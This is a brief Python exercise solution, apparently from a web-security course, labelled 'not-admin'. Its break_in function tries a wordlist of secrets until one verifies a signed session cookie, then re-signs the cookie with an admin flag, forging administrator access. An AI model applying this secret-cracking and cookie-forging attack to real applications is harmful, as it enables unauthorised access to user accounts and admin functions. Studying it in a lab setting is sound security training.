# finding: not-admin
from course_app import cookies


def break_in(cookie, words):
    for word in words:
        if cookies.verify(cookie, word, max_age=10**8).valid:
            return cookies.resign(cookie, word, admin=True)
    return None
